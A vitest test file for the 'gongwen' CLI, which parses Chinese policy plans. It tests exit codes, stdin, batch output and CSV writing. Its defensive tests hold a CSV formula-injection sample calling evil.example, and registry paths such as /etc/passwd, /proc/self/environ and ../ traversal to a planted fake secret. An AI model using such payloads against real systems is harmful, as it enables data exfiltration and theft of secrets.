/**
 * The command line as a user meets it: exit codes, messages, standard input, CSV output and the
 * validate config, each through a real `gongwen` child process run from source.
 */
import { spawn } from 'node:child_process'
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { execFileSync } from 'node:child_process'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

const REPO = join(import.meta.dirname, '..', '..')
const MAIN = join(REPO, 'src/cli/main.ts')
const TSX = join(REPO, 'node_modules/tsx/dist/esm/index.mjs')
const BATCH_INPUTS = join(REPO, 'test/fixtures/batch/inputs')
const VALIDATE = join(REPO, 'test/fixtures/validate')
/** A real plan (seed 000, the Shenzhen 平安深圳 action plan: 8 tasks with lead units). */
const SEED = join(REPO, 'corpus/seeds/000_092bc4e14f6ac43b.txt')

let tmp = ''
beforeAll(() => {
  tmp = mkdtempSync(join(tmpdir(), 'gongwen-cli-'))
})
afterAll(() => rmSync(tmp, { recursive: true, force: true }))

interface Run {
  code: number | null
  stdout: string
  stderr: string
}

/** `gongwen …` from source in `cwd`, with `stdin` piped in (closed when absent). */
function gongwen(args: string[], options: { cwd?: string; stdin?: string | Buffer } = {}): Promise<Run> {
  const child = spawn(process.execPath, ['--import', TSX, MAIN, ...args], { cwd: options.cwd ?? tmp, stdio: ['pipe', 'pipe', 'pipe'] })
  let stdout = ''
  let stderr = ''
  child.stdout.on('data', (d) => (stdout += d))
  child.stderr.on('data', (d) => (stderr += d))
  child.stdin.on('error', () => undefined) // a command that exits before reading stdin
  child.stdin.end(options.stdin ?? '')
  // a command that hangs (a FIFO, /dev/zero) must not outlive the test
  const killer = setTimeout(() => child.kill('SIGKILL'), 90_000)
  return new Promise((resolve) =>
    child.on('close', (code) => {
      clearTimeout(killer)
      resolve({ code, stdout, stderr })
    }),
  )
}

/** A folder of five real notices (UTF-8, GB18030, UTF-16, Markdown, HTML). */
function fiveNotices(name: string): string {
  const dir = join(tmp, name)
  mkdirSync(dir, { recursive: true })
  for (const f of ['utf8-notice.txt', 'gb18030-notice.txt', 'utf16-notice.txt', 'notice.md', 'notice.html']) copyFileSync(join(BATCH_INPUTS, f), join(dir, f))
  return dir
}

const records = (file: string) =>
  readFileSync(file, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as { input: string; ok: boolean; error?: { code: string; message: string } })

describe('inputs without text fail (no false green)', () => {
  it('validate, parse and table exit 1 on a binary and an empty file, naming the file and the code', async () => {
    const binary = join(BATCH_INPUTS, 'binary.txt')
    const empty = join(BATCH_INPUTS, 'empty.txt')
    const [vBin, vEmpty, pBin, tEmpty, pGood] = await Promise.all([
      gongwen(['validate', binary]),
      gongwen(['validate', empty, '--format', 'json']),
      gongwen(['parse', binary, '--compact']),
      gongwen(['table', empty]),
      gongwen(['parse', SEED, '--compact']),
    ])
    expect(vBin.code).toBe(1)
    expect(vBin.stdout).not.toContain('✔')
    expect(vBin.stdout).toMatch(/binary\.txt\s+error\s+binary: input is a PNG file, not text\s+input\n/)
    expect(vEmpty.code).toBe(1)
    const report = (JSON.parse(vEmpty.stdout) as { files: Array<{ file: string; findings: Array<{ ruleId: string; message: string }> }> }).files
    expect(report.flatMap((f) => f.findings.map((x) => [f.file.endsWith('empty.txt'), x.ruleId, x.message]))).toEqual([[true, 'input', 'empty: input is empty']])
    expect(pBin.code).toBe(1)
    expect(pBin.stderr).toBe(`gongwen parse: ${binary}: binary: input is a PNG file, not text\n`)
    expect(JSON.parse(pBin.stdout).diagnostics[0].code).toBe('binary')
    expect(tEmpty.code).toBe(1)
    expect(tEmpty.stdout).toBe('')
    expect(tEmpty.stderr).toBe(`gongwen table: ${empty}: empty: input is empty\n`)
    expect(pGood.code).toBe(0)
    expect(pGood.stderr).toBe('')
  })
})

describe('batch jobs', () => {
  it('--jobs 1000 on 5 files writes all 5 records; --jobs 6 prints no listener warning', async () => {
    const dir = fiveNotices('five')
    const [many, six] = await Promise.all([gongwen(['batch', dir, '--jobs', '1000', '--out', join(tmp, 'j1000.jsonl')]), gongwen(['batch', dir, '--jobs', '6', '--out', join(tmp, 'j6.jsonl')])])
    for (const r of [many, six]) {
      expect(r.code).toBe(0)
      expect(r.stderr).not.toMatch(/EMFILE|MaxListenersExceededWarning|Warning/)
      expect(r.stderr).toContain('5 inputs, 5 ok, 0 failed')
    }
    const got = records(join(tmp, 'j1000.jsonl'))
    expect(got.map((r) => [r.input.slice(dir.length + 1), r.ok]).sort()).toEqual([
      ['gb18030-notice.txt', true],
      ['notice.html', true],
      ['notice.md', true],
      ['utf16-notice.txt', true],
      ['utf8-notice.txt', true],
    ])
    expect(records(join(tmp, 'j6.jsonl'))).toHaveLength(5)
  })
})

describe('consistent usage', () => {
  it('names a bad --format value and the allowed ones', async () => {
    const [table, batch] = await Promise.all([gongwen(['table', SEED, '--format', 'xml']), gongwen(['batch', SEED, '--format', 'xml'])])
    expect(table.code).toBe(2)
    expect(table.stderr).toMatch(/^gongwen table: unknown --format "xml" \(one of: csv, json, md\)/)
    expect(batch.code).toBe(2)
    expect(batch.stderr).toMatch(/^gongwen batch: unknown --format "xml" \(one of: jsonl, json, csv, md, sqlite\)/)
  })

  it("reads standard input for '-' in parse, table, batch and validate", async () => {
    const text = readFileSync(SEED)
    const [parse, table, batch, validate] = await Promise.all([
      gongwen(['parse', '-', '--compact'], { stdin: text }),
      gongwen(['table', '-', '--format', 'json'], { stdin: text }),
      gongwen(['batch', '-', '-q'], { stdin: text }),
      gongwen(['validate', '-', '--format', 'json'], { stdin: text }),
    ])
    expect([parse.code, table.code, batch.code, validate.code]).toEqual([0, 0, 0, 0])
    const doc = JSON.parse(parse.stdout)
    expect(doc.documents[0].tasks).toHaveLength(8)
    expect(JSON.parse(table.stdout)[0].lead).toEqual(doc.documents[0].tasks[0].roles.find((r: { role: string }) => r.role === 'lead').units.map((u: { name: string }) => u.name))
    const record = JSON.parse(batch.stdout)
    expect([record.input, record.ok, record.document.documents[0].tasks.length]).toEqual(['-', true, 8])
    expect(JSON.parse(validate.stdout).files[0].file).toBe('<stdin>')
    // the JSON of `parse` and the CSV of `table` piped into validate are read as what they are
    const [fromJson, fromCsv] = await Promise.all([
      gongwen(['validate', '-', '--format', 'json'], { stdin: parse.stdout }),
      gongwen(['validate', '-', '--format', 'json'], { stdin: (await gongwen(['table', SEED])).stdout }),
    ])
    expect([fromJson.code, fromCsv.code]).toEqual([0, 0])
    expect(JSON.parse(fromJson.stdout).files[0].findings).toEqual(JSON.parse(validate.stdout).files[0].findings)
    expect(JSON.parse(fromCsv.stdout).files[0].findings).toEqual([])
  })

  it('gives exit 2 for an empty folder in batch and validate, and for a missing file in parse and validate', async () => {
    const emptyDir = join(tmp, 'empty-folder')
    mkdirSync(emptyDir, { recursive: true })
    const missing = join(tmp, 'no-such-plan.txt')
    const [batch, validate, parse, validateMissing, table] = await Promise.all([
      gongwen(['batch', emptyDir, '-q']),
      gongwen(['validate', emptyDir]),
      gongwen(['parse', missing]),
      gongwen(['validate', missing]),
      gongwen(['table', missing]),
    ])
    expect([batch.code, validate.code, parse.code, validateMissing.code, table.code]).toEqual([2, 2, 2, 2, 2])
    expect(batch.stderr).toBe(`gongwen batch: no documents found in ${emptyDir}\n`)
    expect(validate.stderr).toBe(`gongwen validate: no documents or tables found in ${emptyDir}\n`)
    for (const [cmd, r] of [
      ['parse', parse],
      ['validate', validateMissing],
      ['table', table],
    ] as const) {
      expect(r.stderr).toBe(`gongwen ${cmd}: cannot read ${missing}: no such file or folder\n`)
    }
  })

  it('prints help for schema --help, eval requires GOLD_DIR, batch --help says csv/md give a row per task', async () => {
    const [schemaHelp, schema, evalRun, batchHelp] = await Promise.all([gongwen(['schema', '--help']), gongwen(['schema']), gongwen(['eval']), gongwen(['batch', '--help'])])
    expect(schemaHelp.code).toBe(0)
    expect(schemaHelp.stdout).toMatch(/^gongwen schema\n {2}Prints the JSON Schema/)
    expect(JSON.parse(schema.stdout).$defs.PolicyDocument.title).toBe('gongwen PolicyDocument')
    expect(evalRun.code).toBe(2)
    expect(evalRun.stderr).toMatch(/^gongwen eval: GOLD_DIR is required\n/)
    expect(evalRun.stdout).toBe('')
    expect(batchHelp.stdout).toMatch(/csv\/md give one row per task/)
    expect(batchHelp.stdout).not.toMatch(/row per document/)
  })

  it('does not repeat the error code, and the failure summary names the failed files', async () => {
    const missing = join(tmp, 'gone.txt')
    const out = join(tmp, 'fails.jsonl')
    const r = await gongwen(['batch', join(BATCH_INPUTS, 'binary.txt'), missing, SEED, '--out', out, '--ordered'])
    expect(r.code).toBe(1)
    const [bin, gone, seed] = records(out)
    expect(gone.error!.message).toMatch(/^ENOENT: no such file or directory/)
    expect([bin.error!.code, gone.error!.code, seed.ok]).toEqual(['binary', 'read-error', true])
    expect(r.stderr).toContain(`  failed: binary 1, read-error 1\n    ${join(BATCH_INPUTS, 'binary.txt')}: binary\n    ${missing}: read-error\n`)
  })

  it('writes CSV with a UTF-8 BOM in table and in batch', async () => {
    const out = join(tmp, 'seed.csv')
    const [table, batch] = await Promise.all([gongwen(['table', SEED]), gongwen(['batch', SEED, '--out', out, '-q'])])
    expect([table.code, batch.code]).toEqual([0, 0])
    expect(table.stdout.startsWith('\ufeffpath,title,lead,')).toBe(true)
    expect(readFileSync(out, 'utf8').startsWith('\ufeffinput,ok,error,path,title,lead,')).toBe(true)
    // one row per task in both (seed 000: 8 tasks with roles), header apart
    expect(table.stdout.trim().split('\n')).toHaveLength(9)
    expect(readFileSync(out, 'utf8').trim().split('\r\n')).toHaveLength(9)
  })
})

describe('--resume on a finished run', () => {
  it('reports "already complete", exits 0 and leaves the output untouched (file and folder output)', async () => {
    const dir = fiveNotices('resume-in')
    const out = join(tmp, 'done.jsonl')
    const outDir = join(tmp, 'done-dir') + '/'
    const first = await Promise.all([gongwen(['batch', dir, '--out', out, '--jobs', '2']), gongwen(['batch', dir, '--out', outDir, '--jobs', '2'])])
    expect(first.map((r) => r.code)).toEqual([0, 0])
    const before = readFileSync(out)
    const mtime = statSync(out).mtimeMs
    const again = await gongwen(['batch', dir, '--out', out, '--jobs', '2', '--resume'])
    expect(again.code).toBe(0)
    expect(again.stderr).toMatch(/already complete/)
    expect(readFileSync(out).equals(before)).toBe(true)
    expect(statSync(out).mtimeMs).toBe(mtime)
    expect(records(out)).toHaveLength(5)
    const dirAgain = await gongwen(['batch', dir, '--out', outDir, '--resume'])
    expect(dirAgain.code).toBe(0)
    expect(dirAgain.stderr).toMatch(/already complete/)
  })
})

describe('CSV formula injection (OWASP)', () => {
  // a plan whose text a hostile author controls: a title, a lead and a responsible unit starting with = @ +
  const plan = [
    '关于印发重点任务分工方案的通知',
    '',
    '一、重点任务',
    '1. =HYPERLINK("http://evil.example/?x")推进法治建设。牵头单位：市司法局；责任单位：+市财政局。2015年6月底前完成。',
    '2. -加强宣传。牵头单位：@市委宣传部。',
    '',
  ].join('\n')

  it('table and batch --format csv prefix formula-like cells with a quote, and validate reads them back', async () => {
    const file = join(tmp, 'hostile-plan.txt')
    writeFileSync(file, plan)
    const out = join(tmp, 'hostile.csv')
    const [table, batch] = await Promise.all([gongwen(['table', file]), gongwen(['batch', file, '--out', out, '-q'])])
    expect([table.code, batch.code]).toEqual([0, 0])
    const csvFromTable = table.stdout
    const csvFromBatch = readFileSync(out, 'utf8')
    for (const csv of [csvFromTable, csvFromBatch]) {
      const cells = csv.split(/\r?\n/).slice(1).join(',').split(',')
      // no cell opens with a formula character, quoted or not
      expect(cells.filter((c) => /^"?[=+\-@]/.test(c))).toEqual([])
      expect(csv).toContain(`"'+市财政局"`)
      expect(csv).toContain(`"'@市委宣传部"`)
      expect(csv).toMatch(/"'=HYPERLINK/)
      expect(csv).toContain(`"'-加强宣传"`)
    }
    // the hand-kept table path: the quote is dropped again when the CSV is validated
    const tableFile = join(tmp, 'hostile-table.csv')
    writeFileSync(tableFile, csvFromTable)
    const v = await gongwen(['validate', tableFile, '--format', 'json'])
    const messages = (JSON.parse(v.stdout).files[0].findings as Array<{ message: string }>).map((f) => f.message)
    expect(messages.join('\n')).not.toContain("'@")
  })
})

describe('validate config: the registry stays inside the project', () => {
  const secret = 'TOP-SECRET-TOKEN=s3cr3t'
  let project = ''
  beforeAll(() => {
    project = join(tmp, 'project')
    mkdirSync(join(project, 'plans'), { recursive: true })
    copyFileSync(join(VALIDATE, 'base.txt'), join(project, 'plans', 'base.txt'))
    copyFileSync(join(VALIDATE, 'units.json'), join(project, 'units.json'))
    // a "secret" outside the project, a symlink to it inside, a FIFO and a non-JSON file inside
    writeFileSync(join(tmp, 'outside-secret.json'), `${secret}\n`)
    symlinkSync(join(tmp, 'outside-secret.json'), join(project, 'link.json'))
    execFileSync('mkfifo', [join(project, 'fifo.json')])
    writeFileSync(join(project, 'notes.json'), `${secret}\n`)
  })

  const withRegistry = (registry: string) => {
    const file = join(project, `config-${Math.random().toString(36).slice(2)}.json`)
    writeFileSync(file, JSON.stringify({ registry }))
    return gongwen(['validate', 'plans', '--config', file], { cwd: project })
  }

  it('accepts a registry inside the project', async () => {
    const r = await withRegistry('units.json')
    expect(r.stderr).toBe('')
    expect(r.code).toBe(0)
  })

  it('refuses absolute paths, .. and symlinks that leave the project, and /proc, /dev/zero, a FIFO, without quoting content', async () => {
    const cases: Array<[string, RegExp]> = [
      ['/etc/passwd', /registry: \/etc\/passwd is outside the project/],
      ['/proc/self/environ', /registry: \/proc\/self\/environ is outside the project/],
      ['/dev/zero', /registry: \/dev\/zero is outside the project/],
      ['../outside-secret.json', /registry: \.\.\/outside-secret\.json is outside the project/],
      ['link.json', /registry: link\.json is outside the project/],
      ['fifo.json', /registry: cannot read unit registry .*fifo\.json: not a regular file/],
      ['plans', /registry: cannot read unit registry .*plans: is a folder/],
      ['notes.json', /registry: unit registry .*notes\.json is not valid JSON/],
    ]
    const runs = await Promise.all(cases.map(([registry]) => withRegistry(registry)))
    runs.forEach((r, i) => {
      expect([cases[i][0], r.code]).toEqual([cases[i][0], 2])
      expect(r.stderr).toMatch(cases[i][1])
      expect(r.stderr).not.toContain('s3cr3t')
      expect(r.stderr).not.toMatch(/root:|PATH=/)
    })
  })
})

describe('GBK tables', () => {
  it('reads a GBK-encoded CSV (Excel on a Chinese system) to the same findings as the UTF-8 one', async () => {
    expect(existsSync(join(VALIDATE, 'table-gbk.csv'))).toBe(true)
    const [gbk, utf8] = await Promise.all([gongwen(['validate', join(VALIDATE, 'table-gbk.csv'), '--format', 'json']), gongwen(['validate', join(VALIDATE, 'table.csv'), '--format', 'json'])])
    const findings = (r: Run) => (JSON.parse(r.stdout).files[0].findings as Array<{ ruleId: string; message: string; row: number }>).map((f) => [f.ruleId, f.row, f.message])
    expect(findings(gbk)).toEqual(findings(utf8))
    expect(findings(gbk).map((f) => f[0])).toEqual(['task-has-lead', 'deadline-parseable'])
    expect(gbk.code).toBe(1)
  })
})
